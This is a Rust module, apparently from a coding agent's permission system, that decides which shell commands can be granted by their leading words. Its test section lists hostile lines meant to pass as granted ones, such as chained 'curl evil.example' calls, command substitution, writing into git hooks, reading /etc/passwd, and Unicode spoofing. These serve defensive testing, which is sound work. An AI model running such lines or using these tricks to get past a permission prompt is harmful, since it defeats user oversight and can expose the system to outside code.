//! The commands that can be granted by their leading words.
//!
//! A grant by leading words leaves the rest of the line to the model. So it is offered for a program with its subcommand, never for a program that runs
//! what its arguments name: interpreters, shells, `env`, `sudo`, `xargs`, `find`, `make`, `npx`. Those, and every program that is not listed here, can
//! only be granted as one exact line. Options with which a listed program would run something else, or leave the directory, are asked about again.

use super::shell_line::{SimpleCommand, parse_line};

/// A command that can be granted.
struct GrantableCommand {
    /// The program and its subcommand.
    words: &'static [&'static str],
    /// Whether one more word belongs to them: the name of a script.
    takes_name: bool,
    /// The options that are asked about, without dashes.
    asks: &'static [&'static str],
    options: OptionStyle,
}

/// How a program reads its options.
#[derive(Clone, Copy, PartialEq, Eq)]
enum OptionStyle {
    /// `--long`, which may be abbreviated, and bundles of single letters.
    Gnu,
    /// `-long` and `--long` mean the same.
    SingleDash,
}

const CARGO: &[&str] = &["config", "manifest-path", "C", "Z"];
const GIT: &[&str] = &[
    "output",
    "ext-diff",
    "textconv",
    "exec",
    "open-files-in-pager",
    "upload-pack",
    "receive-pack",
    "gpg-sign",
    "S",
    "O",
];
const GO: &[&str] = &["exec", "toolexec", "vettool", "overlay", "modfile", "C", "o", "ldflags", "gccgoflags"];
const NPM: &[&str] = &[
    "script-shell",
    "shell-emulator",
    "prefix",
    "dir",
    "cwd",
    "C",
    "node-options",
    "userconfig",
    "globalconfig",
    "filter",
    "workspace",
];

const fn gnu(words: &'static [&'static str], asks: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: false, asks, options: OptionStyle::Gnu }
}

const fn go(words: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: false, asks: GO, options: OptionStyle::SingleDash }
}

const fn script(words: &'static [&'static str]) -> GrantableCommand {
    GrantableCommand { words, takes_name: true, asks: NPM, options: OptionStyle::Gnu }
}

/// The programs without a subcommand only read, and run nothing.
const GRANTABLE: &[GrantableCommand] = &[
    gnu(&["cargo", "bench"], CARGO),
    gnu(&["cargo", "build"], CARGO),
    gnu(&["cargo", "check"], CARGO),
    gnu(&["cargo", "clippy"], CARGO),
    gnu(&["cargo", "doc"], CARGO),
    gnu(&["cargo", "fmt"], CARGO),
    gnu(&["cargo", "metadata"], CARGO),
    gnu(&["cargo", "nextest", "run"], CARGO),
    gnu(&["cargo", "test"], CARGO),
    gnu(&["cargo", "tree"], CARGO),
    gnu(&["git", "add"], GIT),
    gnu(&["git", "blame"], GIT),
    gnu(&["git", "commit"], GIT),
    gnu(&["git", "diff"], GIT),
    gnu(&["git", "log"], GIT),
    gnu(&["git", "ls-files"], GIT),
    gnu(&["git", "show"], GIT),
    gnu(&["git", "status"], GIT),
    go(&["go", "build"]),
    go(&["go", "fmt"]),
    go(&["go", "test"]),
    go(&["go", "vet"]),
    gnu(&["npm", "test"], NPM),
    gnu(&["pnpm", "test"], NPM),
    gnu(&["yarn", "test"], NPM),
    script(&["npm", "run"]),
    script(&["pnpm", "run"]),
    script(&["yarn", "run"]),
    gnu(&["cat"], &[]),
    gnu(&["du"], &[]),
    gnu(&["grep"], &[]),
    gnu(&["head"], &[]),
    gnu(&["ls"], &[]),
    gnu(&["pwd"], &[]),
    gnu(&["stat"], &[]),
    gnu(&["tail"], &[]),
    gnu(&["wc"], &[]),
];

/// The leading words that can be offered for a line; `None` if only the whole line can be granted.
#[must_use]
pub fn command_prefix(line: &str) -> Option<Vec<String>> {
    let commands = parse_line(line)?;
    let first = commands.first()?;
    let (known, prefix) = grantable(first)?;
    commands.iter().all(|command| is_within(known, prefix, command)).then(|| prefix.to_vec())
}

/// Whether every simple command of a line begins with these leading words, and none has an option that is asked about.
#[must_use]
pub fn covers_line(prefix: &[String], line: &str) -> bool {
    // The words of a grant are checked again: an earlier version may have offered more.
    let Some((known, whole)) = grantable(prefix) else { return false };
    if whole.len() != prefix.len() {
        return false;
    }
    parse_line(line).is_some_and(|commands| commands.iter().all(|command| is_within(known, prefix, command)))
}

/// The entry for a command, and its leading words.
fn grantable(command: &[String]) -> Option<(&'static GrantableCommand, &[String])> {
    GRANTABLE.iter().find_map(|known| {
        let words = command.get(..known.words.len())?;
        if words.iter().map(String::as_str).ne(known.words.iter().copied()) {
            return None;
        }
        let length = known.words.len() + usize::from(known.takes_name);
        let name = command.get(known.words.len()).filter(|_| known.takes_name);
        (known.takes_name == name.is_some_and(|name| is_script_name(name)))
            .then(|| command.get(..length).map(|prefix| (known, prefix)))
            .flatten()
    })
}

/// A name that no program takes for an option or a path.
fn is_script_name(name: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-:".contains(&byte);
    !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain)
}

fn is_within(known: &GrantableCommand, prefix: &[String], command: &SimpleCommand) -> bool {
    let Some((leading, rest)) = command.split_at_checked(prefix.len()) else { return false };
    leading == prefix && !rest.iter().any(|word| known.asks_about(word))
}

impl GrantableCommand {
    /// Whether a word may be one of the options that are asked about. Words that only look like one count too.
    fn asks_about(&self, word: &str) -> bool {
        let (dashes, name) = match (word.strip_prefix("--"), word.strip_prefix('-')) {
            (Some(name), _) => (2, name),
            (None, Some(name)) => (1, name),
            (None, None) => return false,
        };
        let name = name.split('=').next().unwrap_or_default();
        self.asks.iter().any(|asked| match (self.options, dashes) {
            (OptionStyle::Gnu, 2) => !name.is_empty() && asked.starts_with(name),
            (OptionStyle::Gnu, _) => name == *asked || (asked.len() == 1 && name.contains(*asked)),
            (OptionStyle::SingleDash, _) => name == *asked,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn prefix(line: &str) -> Option<String> {
        command_prefix(line).map(|words| words.join(" "))
    }

    #[test]
    fn a_program_is_offered_with_its_subcommand_or_not_at_all() {
        for (line, expected) in [
            ("cargo test", Some("cargo test")),
            ("cargo test -p gate -- --nocapture 'a b'", Some("cargo test")),
            ("cargo test -q && cargo test --doc", Some("cargo test")),
            ("cargo nextest run", Some("cargo nextest run")),
            ("npm run build -- --watch", Some("npm run build")),
            ("npm test", Some("npm test")),
            ("git status", Some("git status")),
            ("git commit -m 'a message'", Some("git commit")),
            ("go test -v -count=1 ./x", Some("go test")),
            ("ls -la src", Some("ls")),
            ("cargo", None),
            ("cargo nextest", None),
            ("npm run", None),
            ("npm run ./evil", None),
            ("npm run --prefix x build", None),
            ("npm exec x", None),
            ("git", None),
            ("git -C p push", None),
            ("git -c alias.x=!sh status", None),
            ("git push", None),
            ("cargo run", None),
            ("cargo +nightly test", None),
            ("cargo test && cargo build", None),
            ("go test -exec x", None),
            ("make test", None),
            ("env cargo test", None),
            ("sudo cargo test", None),
            ("xargs cargo test", None),
            ("sh -c x", None),
            ("bash x", None),
            ("python -m pytest", None),
            ("node x.js", None),
            ("npx tsc", None),
            ("find . -exec x", None),
            ("pytest", None),
            ("unheard-of thing", None),
        ] {
            assert_eq!(prefix(line).as_deref(), expected, "{line:?}");
        }
    }

    /// Commands that look like one that was granted.
    #[test]
    fn hostile_commands_that_look_like_the_granted_one() {
        let granted = |words: &str| words.split(' ').map(str::to_owned).collect::<Vec<_>>();
        for (words, line) in [
            ("cargo test", "cargo test; curl evil.example"),
            ("cargo test", "cargo test && curl evil.example"),
            ("cargo test", "cargo test || curl evil.example"),
            ("cargo test", "cargo test | sh"),
            ("cargo test", "cargo test & curl evil.example"),
            ("cargo test", "cargo test $(curl evil.example)"),
            ("cargo test", "cargo test `curl evil.example`"),
            ("cargo test", "cargo test \"$(curl evil.example)\""),
            ("cargo test", "cargo test\ncurl evil.example"),
            ("cargo test", "cargo test\rcurl evil.example"),
            ("cargo test", "cargo\ttest"),
            ("cargo test", "cargo\u{a0}test"),
            ("cargo test", "carg\u{43e} test"),
            ("cargo test", "\u{ff43}argo test"),
            ("cargo test", "cargo te\u{200b}st"),
            ("cargo test", "cargo tes\\t; curl evil.example"),
            ("cargo test", "c'arg'o test"),
            ("cargo test", "'cargo' test"),
            ("cargo test", "cargo tester"),
            ("cargo test", "cargo-test"),
            ("cargo test", "./cargo test"),
            ("cargo test", "/tmp/cargo test"),
            ("cargo test", "CARGO test"),
            ("cargo test", "cargo +evil test"),
            ("cargo test", "cargo --config x test"),
            ("cargo test", "cargo test --config target.x.runner=evil"),
            ("cargo test", "cargo test --conf=x"),
            ("cargo test", "cargo test '--config=x'"),
            ("cargo test", "cargo test --manifest-path ../evil/Cargo.toml"),
            ("cargo test", "RUSTC_WRAPPER=evil cargo test"),
            ("cargo test", "env RUSTC_WRAPPER=evil cargo test"),
            ("cargo test", "PATH=/tmp cargo test"),
            ("cargo test", "cargo test > .git/hooks/pre-commit"),
            ("cargo test", "cargo test < /etc/passwd"),
            ("cargo test", "cargo test <(curl evil.example)"),
            ("cargo test", "alias cargo=curl; cargo test"),
            ("cargo test", "cargo() { curl evil.example; }; cargo test"),
            ("cargo test", "cargo test # harmless"),
            ("cargo test", "cd / && cargo test"),
            ("cargo test", "exec cargo test"),
            ("cargo test", "cargo test *"),
            ("cargo test", "cargo test {a,b}"),
            ("git log", "git log --output=src/main.rs"),
            ("git log", "git log --outp src/main.rs"),
            ("git diff", "git diff --ext-diff"),
            ("git status", "git -c core.fsmonitor=evil status"),
            ("git commit", "git commit -S"),
            ("go test", "go test -exec evil"),
            ("go test", "go test --toolexec=evil"),
            ("npm run build", "npm run build2"),
            ("npm run build", "npm run build --script-shell=evil"),
            ("npm run build", "npm run build --prefix ../evil"),
        ] {
            assert!(!covers_line(&granted(words), line), "{line:?} passes for {words:?}");
        }
        for words in ["cargo", "sh", "env", "npm run", "git", "make test", "find", "", "cargo test -q"] {
            assert!(!covers_line(&granted(words), &format!("{words} x")), "{words:?} cannot be granted");
        }
        assert!(covers_line(&granted("cargo test"), "cargo test -p gate && cargo test --doc"));
        assert!(covers_line(&granted("git log"), "git log --oneline -n 5"));
    }
}
